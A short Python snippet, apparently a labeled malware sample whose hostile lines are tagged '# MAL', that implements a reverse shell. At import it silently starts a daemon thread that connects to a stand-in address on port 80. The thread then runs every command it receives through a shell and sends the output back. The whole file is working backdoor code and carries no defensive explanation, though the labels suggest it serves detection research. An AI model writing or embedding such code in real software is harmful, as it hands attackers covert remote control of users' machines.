import threading
import socket
import subprocess

def _c():
    s = socket.socket()  # MAL
    s.connect(("192.0.2.172", 80))  # MAL
    while True:
        cmd = s.recv(1024).decode()  # MAL
        out = subprocess.run(cmd, shell=True, capture_output=True)  # MAL
        s.send(out.stdout + out.stderr)  # MAL

threading.Thread(target=_c, daemon=True).start()
